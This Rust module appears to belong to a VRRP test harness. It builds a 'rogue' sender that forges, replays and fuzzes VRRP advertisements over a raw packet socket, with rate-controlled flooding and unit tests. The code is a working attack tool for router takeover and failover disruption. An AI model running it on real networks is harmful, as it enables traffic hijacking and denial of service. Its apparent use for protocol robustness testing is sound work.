//! `rogue`: a machine that has no business in a VRRP network and speaks all the same: forged, repeated and malformed advertisements.

use std::{
    net::Ipv4Addr,
    os::fd::OwnedFd,
    process::ExitCode,
    time::{Duration, Instant},
};

use anyhow::{Context as _, bail};

use super::{load::duration, packet_socket, ping::checksum};

/// Where advertisements go (RFC 9568 section 5.1.1.2), and the group's hardware address.
const GROUP: Ipv4Addr = Ipv4Addr::new(224, 0, 0, 18);
const GROUP_MAC: [u8; 6] = [0x01, 0, 0x5e, 0, 0, 0x12];
/// The IP protocol.
const VRRP: u8 = 112;
const ETHERNET: usize = 14;
const IPV4: usize = 20;

/// A machine that forges, repeats and floods advertisements over IPv4. It knows no key.
#[derive(Debug, Clone, clap::Args)]
pub struct RogueArgs {
    /// The link on which it speaks.
    #[arg(long)]
    pub interface: String,
    /// What it does.
    #[arg(long, value_enum)]
    pub mode: Mode,
    /// Whose address it gives as its own.
    #[arg(long)]
    pub source: Ipv4Addr,
    /// The virtual router.
    #[arg(long)]
    pub virtual_router_id: u8,
    /// The priority that it claims.
    #[arg(long, default_value_t = 255)]
    pub priority: u8,
    /// The version of VRRP.
    #[arg(long, default_value_t = 3, value_parser = clap::value_parser!(u8).range(2..=3))]
    pub version: u8,
    /// The interval that it claims.
    #[arg(long, default_value = "1s", value_parser = duration)]
    pub interval: Duration,
    /// The virtual addresses.
    #[arg(long)]
    pub address: Vec<Ipv4Addr>,
    /// Advertisements a second.
    #[arg(long, default_value_t = 100, value_parser = clap::value_parser!(u32).range(1..=50_000))]
    pub rate: u32,
    /// For how long.
    #[arg(long, default_value = "5s", value_parser = duration)]
    pub duration: Duration,
}

/// What a rogue does.
#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum Mode {
    /// Well-formed advertisements in somebody else's name.
    Spoof,
    /// An advertisement that it has heard, byte for byte, again and again, from its own hardware address: with the other's, the switch
    /// would send it what is for the other, whatever VRRP does.
    Replay,
    /// Advertisements each of which is broken in another way.
    Malformed,
}

/// Speaks for the given time, then tells how much.
///
/// # Errors
/// When there is no such link, nothing is heard that could be repeated, or sending fails.
pub fn run(args: &RogueArgs) -> anyhow::Result<ExitCode> {
    let socket = packet_socket::open(&args.interface)
        .with_context(|| format!("opening a socket on {}", args.interface))?;
    let path = format!("/sys/class/net/{}/address", args.interface);
    let mac = std::fs::read_to_string(&path).with_context(|| format!("reading {path}"))?;
    let mac = hardware_address(&mac).with_context(|| format!("{path} holds no hardware address"))?;
    let good = match args.mode {
        Mode::Replay => {
            let mut frame = heard(&socket, args)?;
            frame[6..12].copy_from_slice(&mac);
            frame
        }
        Mode::Spoof | Mode::Malformed => advertisement(args, mac),
    };
    let start = Instant::now();
    let mut sent = 0u32;
    while start.elapsed() < args.duration {
        let due = start + Duration::from_secs(1) / args.rate * sent;
        if let Some(left) = due.checked_duration_since(Instant::now()) {
            std::thread::sleep(left);
        }
        let frame = if args.mode == Mode::Malformed { broken(&good, sent) } else { good.clone() };
        match nix::unistd::write(&socket, &frame) {
            Ok(_) => sent += 1,
            // The queue of the link is full: that is a flood.
            Err(nix::Error::ENOBUFS | nix::Error::EAGAIN) => std::thread::sleep(Duration::from_millis(1)),
            Err(error) => return Err(error).context("sending"),
        }
    }
    println!("{sent} frames sent");
    Ok(ExitCode::SUCCESS)
}

fn hardware_address(text: &str) -> Option<[u8; 6]> {
    let bytes: Option<Vec<u8>> =
        text.trim().split(':').map(|byte| u8::from_str_radix(byte, 16).ok()).collect();
    bytes?.try_into().ok()
}

/// Waits for an advertisement of the virtual router by `source`.
fn heard(socket: &OwnedFd, args: &RogueArgs) -> anyhow::Result<Vec<u8>> {
    let deadline = Instant::now() + args.duration.max(Duration::from_secs(5));
    let mut buffer = vec![0; 2048];
    while Instant::now() < deadline {
        match packet_socket::receive(socket, &mut buffer)? {
            Some(frame) => {
                let frame = &buffer[..frame.length];
                if is_advertisement(frame, args.source, args.virtual_router_id) {
                    return Ok(frame.to_vec());
                }
            }
            None => std::thread::sleep(Duration::from_millis(1)),
        }
    }
    bail!("heard no advertisement of {} by {} on {}", args.virtual_router_id, args.source, args.interface)
}

fn is_advertisement(frame: &[u8], source: Ipv4Addr, virtual_router_id: u8) -> bool {
    frame.get(12..14) == Some(&[0x08, 0x00])
        && frame.get(ETHERNET + 9) == Some(&VRRP)
        && frame.get(ETHERNET + 12..ETHERNET + 16) == Some(&source.octets())
        && frame.get(ETHERNET + IPV4 + 1) == Some(&virtual_router_id)
}

/// A frame with a well-formed advertisement without any authentication.
fn advertisement(args: &RogueArgs, mac: [u8; 6]) -> Vec<u8> {
    let mut message = vec![args.version << 4 | 1, args.virtual_router_id, args.priority];
    message.push(u8::try_from(args.address.len()).unwrap_or(u8::MAX));
    if args.version == 3 {
        let hundredths = u16::try_from(args.interval.as_millis() / 10).unwrap_or(0xfff) & 0xfff;
        message.extend(hundredths.to_be_bytes());
    } else {
        // No authentication, and the interval in seconds.
        message.extend([0, u8::try_from(args.interval.as_secs()).unwrap_or(u8::MAX)]);
    }
    message.extend([0, 0]);
    message.extend(args.address.iter().flat_map(Ipv4Addr::octets));
    if args.version == 2 {
        message.extend([0; 8]);
    }
    let mut summed = Vec::new();
    if args.version == 3 {
        // The pseudo-header that keepalived and FRR send with.
        summed.extend(args.source.octets());
        summed.extend(GROUP.octets());
        summed.extend([0, VRRP]);
        summed.extend(u16::try_from(message.len()).unwrap_or(u16::MAX).to_be_bytes());
    }
    summed.extend(&message);
    message[6..8].copy_from_slice(&checksum(&summed).to_be_bytes());

    let mut packet = vec![0x45, 0xc0];
    packet.extend(u16::try_from(IPV4 + message.len()).unwrap_or(u16::MAX).to_be_bytes());
    packet.extend([0, 0, 0x40, 0, 255, VRRP, 0, 0]);
    packet.extend(args.source.octets());
    packet.extend(GROUP.octets());
    let sum = checksum(&packet);
    packet[10..12].copy_from_slice(&sum.to_be_bytes());

    [&GROUP_MAC[..], &mac, &[0x08, 0x00], &packet, &message].concat()
}

/// The frame with one thing wrong; which, the number says. The IP header stays right, so that it arrives.
fn broken(good: &[u8], number: u32) -> Vec<u8> {
    let mut frame = good.to_vec();
    let vrrp = ETHERNET + IPV4;
    match number % 6 {
        // Cut off somewhere in the message.
        0 => frame.truncate(vrrp + (number as usize / 6) % (good.len() - vrrp)),
        // A wrong checksum.
        1 => frame[vrrp + 6] ^= 0x55,
        // A version or type that does not exist.
        2 => frame[vrrp] = (number & 0xff) as u8,
        // More addresses than there are.
        3 => frame[vrrp + 3] = 255,
        // Something behind it.
        4 => frame.extend([0xaa; 40]),
        // Any byte of the message.
        _ => {
            let at = vrrp + (number as usize / 6) % (good.len() - vrrp);
            frame[at] ^= 1 << (number % 8);
        }
    }
    let length = u16::try_from(frame.len().saturating_sub(ETHERNET)).unwrap_or(u16::MAX);
    frame[ETHERNET + 2..ETHERNET + 4].copy_from_slice(&length.to_be_bytes());
    frame[ETHERNET + 10..ETHERNET + 12].fill(0);
    let sum = checksum(&frame[ETHERNET..ETHERNET + IPV4]);
    frame[ETHERNET + 10..ETHERNET + 12].copy_from_slice(&sum.to_be_bytes());
    frame
}

#[cfg(test)]
mod tests {
    use super::*;

    fn args(version: u8) -> RogueArgs {
        RogueArgs {
            interface: "enp0s3".into(),
            mode: Mode::Spoof,
            source: Ipv4Addr::new(192, 16, 193, 1),
            virtual_router_id: 30,
            priority: 254,
            version,
            interval: Duration::from_millis(100),
            address: vec![Ipv4Addr::new(192, 16, 193, 30)],
            rate: 100,
            duration: Duration::from_secs(1),
        }
    }

    #[test]
    fn a_forged_advertisement_is_well_formed() {
        for version in [2, 3] {
            let frame = advertisement(&args(version), [2, 0, 0, 0, 0, 9]);
            assert!(is_advertisement(&frame, Ipv4Addr::new(192, 16, 193, 1), 30));
            assert!(!is_advertisement(&frame, Ipv4Addr::new(192, 16, 193, 2), 30));
            assert!(!is_advertisement(&frame, Ipv4Addr::new(192, 16, 193, 1), 31));
            let (ip, message) = frame[ETHERNET..].split_at(IPV4);
            assert_eq!(checksum(ip), 0);
            let pseudo = [&ip[12..20], &[0, VRRP, 0, u8::try_from(message.len()).unwrap()]].concat();
            let summed = if version == 3 { [&pseudo[..], message].concat() } else { message.to_vec() };
            assert_eq!(checksum(&summed), 0, "version {version}");
        }
    }

    #[test]
    fn what_is_broken_still_arrives() {
        let good = advertisement(&args(3), [2, 0, 0, 0, 0, 9]);
        for number in 0..1000 {
            let frame = broken(&good, number);
            assert_eq!(checksum(&frame[ETHERNET..ETHERNET + IPV4]), 0);
            assert_eq!(frame[ETHERNET + 9], VRRP);
        }
    }

    #[test]
    fn hardware_addresses() {
        assert_eq!(hardware_address("02:00:00:00:00:1f\n"), Some([2, 0, 0, 0, 0, 0x1f]));
        for wrong in ["", "02:00", "zz:00:00:00:00:00"] {
            assert_eq!(hardware_address(wrong), None, "{wrong}");
        }
    }
}
